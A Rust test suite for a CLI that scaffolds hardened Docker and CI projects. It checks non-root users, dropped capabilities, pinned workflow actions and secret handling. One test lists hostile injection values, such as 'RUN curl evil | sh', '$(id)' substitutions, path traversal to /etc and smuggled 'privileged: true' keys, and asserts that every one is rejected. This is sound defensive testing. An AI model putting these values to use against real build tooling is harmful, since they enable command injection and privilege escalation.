use crate::{yaml, yaml_keys, Berth};

const PRESETS: &[&str] = &["api-service", "distroless-batch", "mariadb-etl", "minimal", "postgres-etl"];

/// The final stage of a Dockerfile: from its last FROM on.
fn final_stage(dockerfile: &str) -> &str {
    let at = dockerfile.rfind("\nFROM ").expect("a FROM line");
    &dockerfile[at..]
}

#[test]
fn every_preset_writes_a_hardened_project() {
    for preset in PRESETS {
        let run = Berth::new().args(&["new", "proj", "--preset", preset, "-y"]).run().expect_code(0);
        let dockerfile = run.read("proj/Dockerfile");
        let runtime = final_stage(&dockerfile);
        assert!(dockerfile.matches("\nFROM ").count() >= 2, "{preset}: multi-stage");
        assert!(
            runtime.contains("\nUSER 10001:10001") || runtime.contains("\nUSER 65532:65532"),
            "{preset}: numeric non-root user"
        );
        assert!(
            !runtime.contains("gcc") && !runtime.contains("-dev"),
            "{preset}: no compiler or headers in the runtime stage"
        );
        assert!(runtime.contains("\nHEALTHCHECK ") && runtime.contains("CMD [\""), "{preset}: exec-form healthcheck");
        assert!(runtime.contains("\nCMD [") && runtime.contains("\nENTRYPOINT ["), "{preset}: exec form");
        assert!(!dockerfile.contains("# syntax="), "{preset}: no frontend pull");
        assert!(!dockerfile.contains("ARG ") && !dockerfile.contains("PASSWORD"), "{preset}: no build-time secrets");

        let compose = yaml(&run.read("proj/docker-compose.prod.yml"));
        assert!(compose.get("version").is_none(), "{preset}: no top-level version");
        for (name, service) in compose["services"].as_object().unwrap() {
            assert_eq!(service["read_only"], yaml("true"), "{preset}/{name}");
            assert_eq!(service["cap_drop"], yaml("[ALL]"), "{preset}/{name}");
            assert!(service.get("cap_add").is_none(), "{preset}/{name}: no capability added back");
            assert_eq!(service["security_opt"], yaml("[no-new-privileges=true]"), "{preset}/{name}");
            assert!(service["user"].as_str().is_some_and(|u| !u.starts_with("0:") && u != "root"), "{preset}/{name}");
            assert!(
                service["mem_limit"].is_string() && service["cpus"].is_number() && service["pids_limit"].is_number(),
                "{preset}/{name}"
            );
            assert_eq!(service["logging"]["options"]["max-size"], yaml("'10m'"), "{preset}/{name}");
            assert!(service.get("privileged").is_none() && service.get("network_mode").is_none());
        }
        let _ = run.read("proj/.dockerignore");
        assert!(run.read("proj/secrets/.gitignore").contains('*'));
        assert!(run.read("proj/berth.yml").contains("name: \"proj\""));
        assert!(run.exists("proj/SECURITY.md") && run.exists("proj/.env.prod.example"));
    }
}

#[test]
fn database_presets_isolate_the_database() {
    for preset in ["postgres-etl", "mariadb-etl", "api-service"] {
        let run = Berth::new().args(&["new", "p", "--preset", preset, "-y"]).run().expect_code(0);
        let compose = yaml(&run.read("p/docker-compose.prod.yml"));
        let db = &compose["services"]["db"];
        assert!(db.get("ports").is_none(), "{preset}: db publishes nothing");
        assert_eq!(db["networks"], yaml("[backend]"));
        assert_eq!(compose["networks"]["backend"]["internal"], yaml("true"));
        assert_eq!(db["user"], yaml("'999:999'"), "{preset}: db runs as its own user");
        assert_eq!(compose["services"]["app"]["depends_on"]["db"]["condition"], yaml("service_healthy"));
        assert!(compose["secrets"]["db_password"]["file"].as_str() == Some("./secrets/db_password"));
        let password = run.read("p/secrets/db_password");
        assert_eq!(password.trim().len(), 32, "{preset}: a generated password");
        assert!(!run.stdout().contains(password.trim()) && !run.stderr().contains(password.trim()), "never printed");
        let env = format!("{:?}", db["environment"]);
        assert!(env.contains("_PASSWORD_FILE"), "{preset}: *_FILE variables");
    }
    let pg = Berth::new().args(&["new", "p", "--preset", "postgres-etl", "-y"]).run().expect_code(0);
    let compose = pg.read("p/docker-compose.prod.yml");
    assert!(compose.contains("pg_isready -h 127.0.0.1"), "TCP healthcheck");
    assert!(compose.contains("db-data:/var/lib/postgresql\n"), "PG 18 volume layout");
    assert!(final_stage(&pg.read("p/Dockerfile")).contains("libpq5"), "runtime library derived from libpq-dev");
    assert!(pg.read("p/requirements.txt").contains("psycopg2=="));
}

#[test]
fn api_is_published_on_loopback_only() {
    let run =
        Berth::new().args(&["new", "svc", "--preset", "api-service", "-y", "--port", "8080"]).run().expect_code(0);
    let compose = yaml(&run.read("svc/docker-compose.prod.yml"));
    assert_eq!(compose["services"]["app"]["ports"], yaml("['127.0.0.1:8080:8080']"));
    assert_eq!(compose["services"]["app"]["networks"], yaml("[frontend, backend]"));
    let dockerfile = run.read("svc/Dockerfile");
    assert!(dockerfile.contains("http://127.0.0.1:8080/healthz"), "healthcheck asks the endpoint");
    assert!(dockerfile.contains("EXPOSE 8080"));
}

#[test]
fn distroless_uses_nonroot_tag_matching_builder_and_venv_link() {
    let run = Berth::new().args(&["new", "d", "--preset", "distroless-batch", "-y"]).run().expect_code(0);
    let dockerfile = run.read("d/Dockerfile");
    assert!(dockerfile.contains("FROM python:3.13-slim-trixie AS builder"));
    assert!(dockerfile.contains("FROM gcr.io/distroless/python3-debian13:nonroot AS runtime"));
    assert!(dockerfile.contains("ln -sf /usr/local/bin/python /usr/bin/python"));
    assert!(dockerfile.contains("/usr/bin/python -m venv"));
    assert!(!final_stage(&dockerfile).contains("\nRUN "), "no shell to run anything in distroless");
    assert!(final_stage(&dockerfile).contains("USER 65532:65532"));
}

#[test]
fn packaging_and_ci_variants() {
    let uv = Berth::new().args(&["new", "u", "-y", "--packaging", "uv", "--ci", "gitlab"]).run().expect_code(0);
    assert!(uv.read("u/Dockerfile").contains("uv sync --locked --no-dev --no-install-project"));
    assert!(uv.read("u/pyproject.toml").contains("[project]"));
    assert!(uv.exists("u/.gitlab-ci.yml") && uv.exists("u/renovate.json"));
    assert!(!uv.exists("u/.github"));
    assert!(uv.stdout().contains("uv lock"), "next steps say to lock");

    let poetry = Berth::new().args(&["new", "p", "-y", "--packaging", "poetry", "--ci", "none"]).run().expect_code(0);
    assert!(poetry.read("p/Dockerfile").contains("poetry install --only main --no-root --no-directory"));
    assert!(!poetry.exists("p/.github/workflows") && !poetry.exists("p/.gitlab-ci.yml"));

    let alpine = Berth::new()
        .args(&[
            "new",
            "a",
            "-y",
            "--base",
            "alpine",
            "--database",
            "postgres",
            "--build-packages",
            "gcc,musl-dev,postgresql-dev",
        ])
        .run()
        .expect_code(0);
    let dockerfile = alpine.read("a/Dockerfile");
    assert!(dockerfile.contains("FROM python:3.13-alpine"));
    assert!(final_stage(&dockerfile).contains("apk add --no-cache libpq"));
}

#[test]
fn github_workflow_is_pinned_and_least_privilege() {
    let run = Berth::new().args(&["new", "g", "--preset", "postgres-etl", "-y"]).run().expect_code(0);
    let text = run.read("g/.github/workflows/container.yml");
    let workflow = yaml(&text);
    assert_eq!(workflow["permissions"], yaml("{}"));
    for line in text.lines().filter(|l| l.trim_start().starts_with("- uses:") || l.trim_start().starts_with("uses:")) {
        let reference = line.split('@').nth(1).expect("pinned");
        let sha = reference.split_whitespace().next().unwrap().trim_end_matches('"');
        assert_eq!(sha.len(), 40, "{line}");
        assert!(reference.contains("# v"), "version comment: {line}");
    }
    assert!(!text.contains("trivy-action@master"));
    assert!(text.contains("persist-credentials: false"));
    assert!(text.contains("cosign sign --yes"));
    assert!(text.contains("severity: \"CRITICAL,HIGH\""));
    assert!(run.read("g/.github/dependabot.yml").contains("package-ecosystem: github-actions"));
}

#[test]
fn invalid_answers_are_all_reported_in_one_run() {
    let run = Berth::new()
        .file("answers.yml", "python: '3.9'\nbase: ubuntu\nport: 80\ncolour: blue\n")
        .args(&["new", "x", "--answers", "answers.yml", "-y", "--uid", "0"])
        .run()
        .expect_code(2);
    let err = run.stderr();
    for needle in [
        "python = \"3.9\"",
        "base = \"ubuntu\"",
        "port = \"80\"",
        "unknown key `colour`",
        "uid = \"0\"",
        "3.11, 3.12, 3.13, 3.14",
    ] {
        assert!(err.contains(needle), "missing {needle:?} in:\n{err}");
    }
    assert!(!run.exists("x"), "nothing written");
}

#[test]
fn impossible_combinations_explain_what_works() {
    let run = Berth::new().args(&["new", "x", "-y", "--base", "distroless", "--python", "3.11"]).run().expect_code(2);
    assert!(run.stderr().contains("3.13") && run.stderr().contains("--base slim"), "{}", run.stderr());
    let run = Berth::new().args(&["new", "x", "-y", "--ci", "gitlab", "--updates", "dependabot"]).run().expect_code(2);
    assert!(run.stderr().contains("renovate"), "{}", run.stderr());
    let run = Berth::new()
        .file("x/requirements.txt", "pandas==2.2.3\n")
        .args(&["new", "x", "-y", "--base", "alpine"])
        .run()
        .expect_code(0);
    assert!(run.stderr().contains("warning:") && run.stderr().contains("pandas"), "{}", run.stderr());
}

#[test]
fn existing_different_files_are_refused_and_nothing_is_written() {
    let run = Berth::new().file("p/Dockerfile", "FROM scratch\n").args(&["new", "p", "-y"]).run().expect_code(1);
    assert!(run.stderr().contains("Dockerfile") && run.stderr().contains("--force"), "{}", run.stderr());
    assert_eq!(run.read("p/Dockerfile"), "FROM scratch\n");
    assert!(!run.exists("p/docker-compose.prod.yml"), "no partial write");

    let forced = run.then(&["new", "p", "-y", "--force"]).expect_code(0);
    assert!(forced.read("p/Dockerfile").contains("AS runtime"));
    let again = forced.then(&["new", "p", "-y"]).expect_code(0);
    assert!(again.stdout().contains("unchanged Dockerfile"), "{}", again.stdout());
}

#[test]
fn starter_code_and_secrets_are_never_replaced() {
    let run = Berth::new()
        .file("p/src/pipeline.py", "print('mine')\n")
        .args(&["new", "p", "--preset", "postgres-etl", "-y"])
        .run()
        .expect_code(0);
    assert_eq!(run.read("p/src/pipeline.py"), "print('mine')\n");
    let password = run.read("p/secrets/db_password");
    let again =
        run.then(&["new", "p", "--preset", "postgres-etl", "-y", "--force", "--app-memory", "3g"]).expect_code(0);
    assert_eq!(again.read("p/secrets/db_password"), password);
    assert_eq!(again.read("p/src/pipeline.py"), "print('mine')\n");
    assert!(again.read("p/docker-compose.prod.yml").contains("mem_limit: 3g"));
}

#[test]
fn dry_run_prints_plan_and_diff_and_writes_nothing() {
    let run =
        Berth::new().file("p/Dockerfile", "FROM scratch\n").args(&["new", "p", "-y", "--dry-run"]).run().expect_code(0);
    let out = run.stdout();
    assert!(out.contains("overwrite Dockerfile") && out.contains("create    docker-compose.prod.yml"), "{out}");
    assert!(out.contains("-FROM scratch") && out.contains("+FROM python:3.13-slim-trixie AS builder"), "{out}");
    assert_eq!(run.files("p"), vec!["Dockerfile"]);
}

#[test]
fn rerun_reads_berth_yml_and_regenerates_identically() {
    let run = Berth::new().args(&["new", "p", "--preset", "api-service", "-y", "--port", "9000"]).run().expect_code(0);
    let again = run.then(&["new", "p", "-y"]).expect_code(0);
    assert!(again.stderr().contains("using answers from"));
    assert!(!again.stdout().contains("overwrite"), "{}", again.stdout());
    assert!(again.read("p/docker-compose.prod.yml").contains("127.0.0.1:9000:9000"));
}

#[test]
fn without_a_terminal_or_yes_it_exits_2_naming_the_flags() {
    let run = Berth::new().args(&["new", "p", "--preset", "minimal"]).run().expect_code(2);
    assert!(run.stderr().contains("--non-interactive") && run.stderr().contains("--answers"), "{}", run.stderr());
    assert!(!run.exists("p"));
}

#[test]
fn help_shows_examples() {
    let run = Berth::new().args(&["new", "--help"]).run().expect_code(0);
    assert!(run.stdout().contains("Examples:") && run.stdout().contains("--preset postgres-etl -y"));
}

/// Hostile values must never add an instruction, a key or a path outside DIR.
#[test]
fn injection_attempts_are_refused_everywhere() {
    let hostile: &[(&str, &str)] = &[
        ("name", "x\nRUN curl evil | sh"),
        ("name", "a: b"),
        ("name", "$(id)"),
        ("name", "\"quoted\""),
        ("name", "../../etc"),
        ("entrypoint", "../../etc/cron.py"),
        ("entrypoint", "/etc/passwd.py"),
        ("entrypoint", "src/x.py\nUSER root"),
        ("build_packages", "gcc\nRUN curl evil"),
        ("build_packages", "$(id)"),
        ("runtime_packages", "libpq5 && curl evil"),
        ("health_path", "/\"quoted\""),
        ("health_path", "/x', timeout=1); import os; os.system('id"),
        ("image", "a: b"),
        ("image", "ghcr.io/x\n    privileged: true"),
        ("private_index", "https://evil.example/$(id)"),
        ("app_memory", "1g\n    privileged: true"),
        ("app_cpus", "1 # x"),
        ("python", "3.13\nRUN id"),
    ];
    for (key, value) in hostile {
        // As a flag (through --set) ...
        let run = Berth::new().args(&["new", "p", "-y", "--set", &format!("{key}={value}")]).run();
        assert_eq!(run.code(), 2, "--set {key}={value:?} was accepted:\n{}", run.stderr());
        assert!(run.stderr().contains(key), "error names the field {key}: {}", run.stderr());
        assert!(!run.exists("p"), "nothing written for {key}={value:?}");
        // ... and from an answers file, where YAML quoting must not help either.
        let answers = format!("{key}: {}\n", serde_json::to_string(value).unwrap());
        let run = Berth::new().file("a.yml", &answers).args(&["new", "p", "--answers", "a.yml", "-y"]).run();
        assert_eq!(run.code(), 2, "answers file {key}: {value:?} was accepted");
        assert!(!run.exists("p"));
    }
    assert!(!std::path::Path::new("/etc/cron.py").exists());
}

/// Valid but unusual values stay exactly one value in every generated file.
#[test]
fn valid_values_stay_in_their_place() {
    let run = Berth::new()
        .args(&[
            "new",
            "p",
            "-y",
            "--name",
            "a-b_c",
            "--workload",
            "api",
            "--health-path",
            "/v1/health.check~x",
            "--entrypoint",
            "svc.main",
            "--image",
            "registry.local:5000/team/a-b",
            "--database",
            "postgres",
        ])
        .run()
        .expect_code(0);
    let compose = yaml(&run.read("p/docker-compose.prod.yml"));
    let text = run.read("p/docker-compose.prod.yml");
    assert_eq!(yaml_keys(&text, &[]), vec!["name", "services", "networks", "volumes", "secrets"]);
    assert_eq!(compose["name"], yaml("a-b_c"));
    assert_eq!(yaml_keys(&text, &["services"]), vec!["app", "db"]);
    assert!(run.exists("p/svc/main.py"), "module entrypoint starter");
    assert!(run.read("p/Dockerfile").contains("CMD [\"-m\",\"svc.main\"]"));
    let workflow = yaml(&run.read("p/.github/workflows/container.yml"));
    assert_eq!(workflow["env"]["IMAGE"], yaml("registry.local:5000/team/a-b"));
}

#[test]
fn a_file_in_place_of_the_directory_is_a_clear_error() {
    let run = Berth::new().file("afile", "x").args(&["new", "afile", "-y"]).run().expect_code(2);
    assert!(run.stderr().contains("afile exists and is not a directory"), "{}", run.stderr());
    assert_eq!(run.read("afile"), "x");
}

/// The starter code must at least be valid Python for every database, driver and workload.
#[test]
fn starter_code_is_valid_python() {
    let mut combos = Vec::new();
    for database in ["postgres", "mariadb", "none"] {
        for workload in ["batch", "api"] {
            for build in [None, Some("gcc,libpq-dev,default-libmysqlclient-dev")] {
                combos.push((database, workload, build));
            }
        }
    }
    for (database, workload, build) in combos {
        let mut args = vec!["new", "p", "-y", "--database", database, "--workload", workload];
        if let Some(packages) = build {
            args.extend(["--build-packages", packages]);
        }
        let run = Berth::new().args(&args).run().expect_code(0);
        let entry = if workload == "api" { "p/src/app.py" } else { "p/src/pipeline.py" };
        let status = std::process::Command::new("python3")
            .args(["-m", "py_compile", &run.dir.path().join(entry).to_string_lossy()])
            .status()
            .expect("python3 runs");
        assert!(status.success(), "{database}/{workload}/{build:?}: {entry} does not compile:\n{}", run.read(entry));
    }
}

#[test]
fn ci_files_quote_every_interpolated_value() {
    for image in ["no", "null", "1.0", "0x10", "true", "ghcr.io/acme/yes"] {
        for (ci, file) in [("github", "p/.github/workflows/container.yml"), ("gitlab", "p/.gitlab-ci.yml")] {
            let run = Berth::new().args(&["new", "p", "-y", "--ci", ci, "--image", image]).run().expect_code(0);
            let text = run.read(file);
            let root = berth::yaml::tree::parse(&text).unwrap();
            let section = if ci == "github" { "env" } else { "variables" };
            let value = root.get(section).and_then(|s| s.get("IMAGE")).unwrap();
            assert_eq!(
                value.value,
                berth::yaml::tree::Value::Scalar { text: image.into(), plain: false },
                "{ci}: {text}"
            );
        }
    }
}

#[test]
fn image_hosts_outside_the_reference_grammar_are_refused() {
    for image in ["-u.x/etl", "../etl", "a..b/etl", "ghcr.io:/etl", "x.io/a___b"] {
        let run = Berth::new().args(&["new", "p", "-y", &format!("--image={image}")]).run().expect_code(2);
        assert!(run.stderr().contains("image = "), "{image}: {}", run.stderr());
        assert!(!run.exists("p"), "{image}: nothing written");
    }
}
